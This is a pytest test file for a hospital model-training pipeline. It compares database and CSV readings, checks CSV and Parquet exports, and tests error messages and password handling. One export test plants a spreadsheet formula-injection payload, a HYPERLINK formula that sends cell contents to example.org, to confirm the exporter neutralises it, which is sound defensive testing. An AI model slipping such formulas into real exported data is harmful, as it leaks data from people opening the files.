"""Tests that training reads the same rows from the database as from the CSVs. Also tests exports
and the errors of the database.
"""

import json
import os
import shutil
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from datetime import date, datetime
from itertools import starmap
from pathlib import Path
from typing import Any
from zlib import crc32

import mysql.connector
import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from pyarrow import parquet

from hospital.replay import Replay
from tests.integration.test_training import DIED, ROOT, toml, write_ward
from tests.support import seeded_ward
from tests.support.batches import Client
from tests.support.seeded_ward import START
from tests.support.servers import rows
from tool.data_handler import DataHandler
from tool.database import Database, connect
from tool.model_client import Declaration, Model
from training import artifact, config_file, database, train
from training import outcomes as outcome_file
from training.config import Data, Label
from training.config_file import ConfigError
from training.database import DatabaseFailure
from training.export import export
from training.rows import assemble
from training.stream import DataError, Stream
from training.stream import read as read_stream
from wire.batches import Batch, RawMessage
from wire.features import Feature

pytestmark = pytest.mark.timeout(90, func_only=True)

PARTITIONS = 3
FEATURES = [
    Feature.parse(name)
    for name in (
        *("age", "blood_pressure__last", "blood_pressure__mean", "blood_pressure__std__6h"),
        *("heart_rate__trend__12h", "heart_rate__count", "heart_rate__age", "blood_pressure__max"),
        *("temperature__last", "last_blood_pressure", "standard_deviation_temperature"),
    )
]
SOON = Label(column="died", event="d", after_column="died_after_hours", within_hours=20)


@pytest.fixture(scope="module")
def ward(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The CSVs of a ward with edge cases: long fractions, equal times, no age, extreme values."""
    folder = tmp_path_factory.mktemp("ward") / "csv"
    write_ward(folder, stays=120)
    ages = (folder / "age.csv").read_text().splitlines()
    (folder / "age.csv").write_text("\n".join([ages[0], *ages[3:]]) + "\n")
    with (folder / "signal.csv").open("a") as file:
        for line in (
            f"5;heart_rate;{1 / 3!r}",
            f"5;heart_rate;{0.1 + 0.2!r}",
            f"6;Crp;{1e-300!r}",
            f"6;crp;{-123456789.12345679!r}",
            "6;größe__of_ü;1e21",
        ):
            file.write(f"0;2021-01-01;{line}\n")
    return folder


@pytest.fixture(scope="module")
def from_files(ward: Path) -> Stream:
    return read_stream(Data(folder=ward))


@pytest.fixture(scope="module", params=["sqlite", "mysql", "mariadb"])
def url(
    request: pytest.FixtureRequest,
    ward: Path,
    from_files: Stream,
    with_tables: Callable[[str], str],
) -> str:
    """A database in which the tool's code has stored the ward twice, in live mode and then in
    hindsight mode.
    """
    found = with_tables(request.param)
    opened = connect(found)
    store(opened, ward, "live")
    time.sleep(0.005)  # commit times have a resolution of milliseconds
    store(opened, ward, "hindsight")
    opened.close()
    return found


def handler_of(opened: Database) -> DataHandler:
    features = [Feature.parse(name).declaration() for name in ("age", "heart_rate__mean")]
    handler = DataHandler(opened, Client())  # type: ignore[arg-type]
    handler.declare(Declaration(Model("m", "1", features)))
    return handler


def store(opened: Database, folder: Path, mode: str) -> None:
    """Stores hospital's messages with the tool's handler, in batches for several partitions."""
    handler = handler_of(opened)
    with Replay(folder, mode) as replay:
        messages: list[list[tuple[int, float, bytes]]] = [[] for _ in range(PARTITIONS)]
        for seq, event in enumerate((one for some in replay.events(0) for one in some), start=1):
            data = event.partition("\ndata: ")[2].strip()
            patient = data.partition('"pat_id":')[2].partition(",")[0]
            messages[crc32(patient.encode()) % PARTITIONS].append((seq, 0.0, data.encode()))
        for part, some in enumerate(messages):
            after = 0
            for start in range(0, len(some), 900):
                batch = Batch(
                    replay.stream, part, after, list(starmap(RawMessage, some[start : start + 900]))
                )
                after = handler.handle(batch).position


def stream_of(folder: Path, mode: str) -> str:
    with Replay(folder, mode) as replay:
        return replay.stream


@pytest.fixture(scope="module")
def from_database(url: str, ward: Path) -> Stream:
    return read_stream(Data(folder=ward, database=url, stream=stream_of(ward, "live")))


def comparable(row: tuple[Any, ...]) -> str:
    """The cells as texts. All numbers are converted to floats, because a CSV does not distinguish
    67 from 67.0. All dates and times are parsed, because the formats write them with different
    decimals.
    """
    cells = []
    for cell in row:
        with suppress(ValueError, TypeError):
            cell = float(cell)
        with suppress(ValueError):
            cell = datetime.fromisoformat(str(cell)).replace(tzinfo=None)
        if isinstance(cell, list):
            cell = json.dumps(cell, separators=(",", ":"))
        cells.append("" if cell is None or cell != cell else str(cell))
    return repr(cells)


@pytest.mark.parametrize("file_format", ["csv", "parquet"])
def test_an_export_has_the_rows_of_the_tables(
    url: str, ward: Path, tmp_path: Path, file_format: str
) -> None:
    stream = stream_of(ward, "live")
    command = [sys.executable, "-m", "training", "export", str(tmp_path), "--database", url]
    done = subprocess.run(
        [*command, "--format", file_format, "--stream", stream],
        cwd=ROOT,
        check=True,
        capture_output=True,
        text=True,
    )
    assert len(done.stdout.splitlines()) == len(list(tmp_path.iterdir())) == 5
    for table in ("stays", "readings", "models", "predictions", "outcomes"):
        file = tmp_path / f"{table}.{file_format}"
        if file_format == "csv":
            found = pd.read_csv(file, keep_default_na=False, na_values=[""], dtype=str)
        else:
            found = pd.DataFrame(parquet.read_table(file).to_pydict(), dtype=object)
        names = ", ".join(f"`{name}`" for name in found.columns)
        where = "" if table == "models" else f"WHERE stream = '{stream}'"
        stored = rows(url, f"SELECT {names} FROM {table} {where}")
        exported = found.itertuples(index=False, name=None)
        assert sorted(map(comparable, exported)) == sorted(map(comparable, stored))
    assert len(pd.read_parquet(file) if file_format == "parquet" else pd.read_csv(file)) == 0


def test_an_export_in_parquet_has_dates_times_and_arrays(tmp_path: Path) -> None:
    with seeded_ward.ward(tmp_path / "icu.sqlite") as made:
        made.add_stay(17, START, discharged=START)
        made.add_stay(18, START)
        for pat_id in (17, 18):
            made.add_reading(pat_id, START, START, "heart_rate", 80.5)
        made.execute("UPDATE predictions SET features = '[63,null,80.5]' WHERE pat_id = 17")
        made.execute("UPDATE predictions SET features = NULL WHERE pat_id = 18")
        made.execute("UPDATE predictions SET created_at = '2026-11-27 22:13:00.123'")
        values = (made.stream, 18, "2150-03-01", "2150-03-02 01:02:03")
        made.execute("INSERT INTO outcomes VALUES (?, 9, ?, ?, 'died', 1, ?)", *values)
        made.commit()
    files = {
        path.stem: parquet.read_table(path)
        for path, _ in export(f"sqlite:///{tmp_path}/icu.sqlite", "", tmp_path, "parquet")
    }
    day, time = date(2150, 3, 1), datetime.fromisoformat("2150-03-01 06:00:00")
    died_at = datetime.fromisoformat("2150-03-02 01:02:03")
    stays, predictions = files["stays"], files["predictions"]
    assert stays.schema.field("date_discharge").type == pa.date32()
    assert stays["date_discharge"].to_pylist() == [day, None]
    assert stays["date_admission"].to_pylist() == [day, day]
    for table in (files["readings"], predictions):
        assert table.schema.field("date_admission").type == pa.date32()
        assert table.schema.field("measured_at").type == pa.timestamp("ms")
        assert table["measured_at"].to_pylist() == [time, time]
    assert files["outcomes"]["happened_at"].to_pylist() == [died_at]
    assert predictions.schema.field("created_at").type == pa.timestamp("ms", "UTC")
    made_at = datetime.fromisoformat("2026-11-27 22:13:00.123+00:00")
    assert predictions["created_at"].to_pylist() == [made_at, made_at]
    kind = predictions.schema.field("features").type
    assert pa.types.is_list(kind)
    assert kind.value_type == pa.float64()
    assert predictions["features"].to_pylist() == [[63.0, None, 80.5], None]


@pytest.mark.parametrize("file_format", ["csv", "parquet"])
@pytest.mark.parametrize("begin", ["=", "+", "-", "@"])
def test_no_text_of_an_exported_csv_is_a_formula(
    tmp_path: Path, file_format: str, begin: str
) -> None:
    name = f'{begin}HYPERLINK("http://example.org/?"&A1;"x")'
    with seeded_ward.ward(tmp_path / "icu.sqlite") as made:
        made.add_stay(-17, START)
        made.add_reading(-17, START, START, name, -80.5)
        made.execute("UPDATE stays SET place = ?, identifier = ?", name, "K-17")
        made.commit()
    files = {
        path.stem: path
        for path, _ in export(f"sqlite:///{tmp_path}/icu.sqlite", "", tmp_path, file_format)
    }
    read = pd.read_csv if file_format == "csv" else pd.read_parquet
    reading = read(files["readings"]).iloc[0]
    stay = read(files["stays"]).iloc[0]
    expected = f"'{name}" if file_format == "csv" else name
    assert (reading["parameter"], stay["place"]) == (expected, expected)
    assert (reading["pat_id"], reading["value"], stay["identifier"]) == (-17, -80.5, "K-17")


def test_an_export_of_an_unknown_stream_is_an_error(url: str, tmp_path: Path) -> None:
    command = [sys.executable, "-m", "training", "export", str(tmp_path), "--database", url]
    done = subprocess.run(
        [*command, "--stream", "other"], cwd=ROOT, check=False, capture_output=True, text=True
    )
    assert (done.returncode, done.stderr.count("\n")) == (1, 1), done.stderr
    assert not list(tmp_path.iterdir())


def test_every_reading_equals_that_from_the_csvs(from_files: Stream, from_database: Stream) -> None:
    assert len(from_files.readings) == 120 * 40 + 5
    found, wanted = (
        one.readings.assign(parameter=one.readings["parameter"].astype(str))
        for one in (from_database, from_files)
    )
    pd.testing.assert_frame_equal(found[list(wanted.columns)], wanted, check_exact=True)
    pd.testing.assert_series_equal(from_database.ages, from_files.ages, check_exact=True)
    assert from_files.ages.isna().sum() > 0
    assert from_database.source.startswith("stream ")
    # Rejected messages are counted in the report.
    assert from_files.left_out == {"temperature not between 26 (excluded) and 45 °C": 120}
    assert from_database.left_out == {"rejected message": 120}


@pytest.mark.parametrize("label", [DIED, SOON], ids=["ever", "soon"])
def test_features_and_labels_equal_those_from_the_csvs(
    ward: Path, from_files: Stream, from_database: Stream, label: Label
) -> None:
    outcomes = outcome_file.read(ward, label).table
    found, wanted = (
        assemble(one, outcomes, label, FEATURES, pd.Series(0, index=one.readings.index))
        for one in (from_database, from_files)
    )
    assert len(wanted.y) == (len(from_files.readings) if label is DIED else len(found.y)) > 4000
    assert 0 < wanted.y.sum() < len(wanted.y)
    np.testing.assert_array_equal(found.x, wanted.x)
    np.testing.assert_array_equal(found.y, wanted.y)
    pd.testing.assert_frame_equal(found.about, wanted.about)


def test_the_default_stream_has_the_latest_commit(
    url: str, ward: Path, from_database: Stream
) -> None:
    # In hindsight mode there are no discharges, so the messages have other numbers; the readings
    # are the same.
    stored = database.read(url)
    assert stored.stream == stream_of(ward, "hindsight")
    assert list(stored.readings["seq"].head(1)) == [1]
    assert not stored.readings["seq"].equals(from_database.readings["seq"])
    np.testing.assert_array_equal(stored.readings["value"], from_database.readings["value"])


def test_the_digest_does_not_depend_on_the_number_of_rows_read_at_once(
    url: str, ward: Path, from_database: Stream, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(database, "ROWS_AT_ONCE", 7)
    data = Data(folder=ward, database=url, stream=stream_of(ward, "live"))
    assert read_stream(data).digest == from_database.digest
    last = read_stream(Data(folder=ward, database=url))
    assert last.digest != from_database.digest


LATE = (
    b'{"type":"reading","pat_id":0,"age":50,"date_admission":"2021-01-01",'
    b'"date_discharge":null,"day":"2021-01-01","hour":7,"parameter":"spo2","value":97}'
)


def test_a_read_is_one_snapshot_while_the_tool_stores(url: str) -> None:
    def rows(stored: database.Snapshot) -> tuple[int, int]:
        counts = "SELECT (SELECT COUNT(*) FROM readings), (SELECT COUNT(*) FROM stays)"
        return tuple(stored.select(counts).fetchall()[0])

    opened = connect(url)
    with database.snapshot(url) as stored:
        before = rows(stored)
        handler_of(opened).handle(Batch("another", 0, 0, [RawMessage(1, 0.0, LATE)]))
        assert rows(stored) == before
    opened.close()
    with database.snapshot(url) as stored:
        assert rows(stored) == (before[0] + 1, before[1] + 1)
    # The stream `another` is listed first, because it has the latest commit.
    with pytest.raises(DatabaseFailure, match="no stream 'none' is stored, only another, "):
        database.read(url, "none")


class TestErrors:
    def test_a_database_without_tables_or_streams_is_an_error(
        self, tmp_path: Path, ward: Path
    ) -> None:
        found = f"sqlite:///{tmp_path}/icu.sqlite"
        with pytest.raises(DataError, match=r"^sqlite:\S+icu\.sqlite: .*unable to open"):
            read_stream(Data(folder=ward, database=found))
        assert not (tmp_path / "icu.sqlite").exists()
        sqlite3.connect(tmp_path / "icu.sqlite").close()
        with pytest.raises(DataError, match=r"the pipeline's tables are not in this database"):
            read_stream(Data(folder=ward, database=found))
        opened = connect(found)
        opened.create_tables()
        opened.close()
        with pytest.raises(DataError, match=r"icu\.sqlite: no stream is stored$"):
            read_stream(Data(folder=ward, database=found))

    def test_missing_tables_or_databases_are_an_error(self, mariadb_server: int) -> None:
        with pytest.raises(DatabaseFailure, match="the pipeline's tables are not in this"):
            database.read(f"mysql://root@127.0.0.1:{mariadb_server}/mysql")
        with pytest.raises(DatabaseFailure, match="Unknown database 'none'"):
            database.read(f"mysql://root@127.0.0.1:{mariadb_server}/none")

    @pytest.mark.parametrize(
        ("url", "complaint"),
        [
            ("mysql://icu:secret@127.0.0.1:1/x", r"^mysql:.*[Cc]an't connect"),
            ("mysql://icu:secret@127.0.0.1:port/x", r"^DATABASE_URL=mysql://icu:\*\*\*@"),
            ("oracle://icu:secret@host/x", r"^DATABASE_URL=oracle://icu:\*\*\*@host/x: "),
            ("", "^data.database: environment, but DATABASE_URL is not set$"),
        ],
    )
    def test_an_address_error_does_not_reveal_the_password(self, url: str, complaint: str) -> None:
        with pytest.raises(DatabaseFailure, match=complaint) as error:
            database.read("environment", environ={"DATABASE_URL": url})
        assert "secret" not in str(error.value)
        assert "\n" not in str(error.value)

    def test_a_missing_password_file_is_an_error(self) -> None:
        with pytest.raises(DatabaseFailure, match=r"^DATABASE_PASSWORD_FILE=/no/such: "):
            database.read("mysql://h/x", environ={"DATABASE_PASSWORD_FILE": "/no/such"})

    def test_a_folder_without_outcomes_is_an_error(self, tmp_path: Path) -> None:
        with pytest.raises(DataError, match=r"outcome\.csv"):
            outcome_file.read(tmp_path, DIED)


def test_the_password_comes_from_a_file(mariadb_server: int, tmp_path: Path) -> None:
    root = mysql.connector.connect(
        host="127.0.0.1", port=mariadb_server, user="root", collation="utf8mb4_general_ci"
    )
    cursor = root.cursor()
    cursor.execute("CREATE DATABASE IF NOT EXISTS secretive")
    cursor.execute("CREATE USER IF NOT EXISTS reader@localhost IDENTIFIED BY 'p:a@ss/word'")
    cursor.execute("GRANT SELECT ON secretive.* TO reader@localhost")
    root.close()
    (tmp_path / "password").write_text("p:a@ss/word\n")
    url = f"mysql://reader@127.0.0.1:{mariadb_server}/secretive"
    with database.snapshot(url, {"DATABASE_PASSWORD_FILE": f"{tmp_path}/password"}) as stored:
        assert stored.select("SELECT 1").fetchall() == [(1,)]
    with pytest.raises(DatabaseFailure, match="Access denied"):
        database.read(url)


@pytest.mark.parametrize(
    ("setting", "complaint"),
    [
        ('database = "oracle://x"', r"data.database: 'oracle://x' is not sqlite:///PATH, mysql://"),
        ('database = "mysql://u:p@h/d"', r"data.database: no password here"),
        ('stream = "ab12cd34"', r"data.stream: 'ab12cd34' needs data.database"),
    ],
)
def test_settings_are_checked_before_anything_is_read(
    setting: str, complaint: str, tmp_path: Path
) -> None:
    path = tmp_path / "c.toml"
    path.write_text(toml(tmp_path, tmp_path).replace("[data]", f"[data]\n{setting}", 1))
    with pytest.raises(ConfigError, match=complaint):
        config_file.load(path)


def test_the_command_trains_from_the_database_in_the_environment(
    ward: Path, from_files: Stream, tmp_path: Path
) -> None:
    opened = connect(f"sqlite:///{tmp_path}/icu.sqlite")
    opened.create_tables()
    store(opened, ward, "live")
    opened.close()
    # The folder contains only outcome.csv.
    (tmp_path / "labels").mkdir()
    shutil.copy(ward / "outcome.csv", tmp_path / "labels")
    path = tmp_path / "c.toml"
    text = toml(tmp_path / "labels", tmp_path, kind="logistic").replace("folds = 2", "")
    path.write_text(text.replace("[data]", '[data]\ndatabase = "environment"', 1))
    done = subprocess.run(
        [sys.executable, "-m", "training", "train", str(path)],
        cwd=ROOT,
        env={**os.environ, "DATABASE_URL": f"sqlite:///{tmp_path}/icu.sqlite"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    path.write_text(toml(ward, tmp_path / "files", kind="logistic").replace("folds = 2", ""))
    trained = train.run(config_file.load(path))
    found, wanted = (
        json.loads((folder / "golden.json").read_text())
        for folder in (tmp_path / "models" / "small" / "1", artifact.write(trained, "1"))
    )
    assert found == wanted
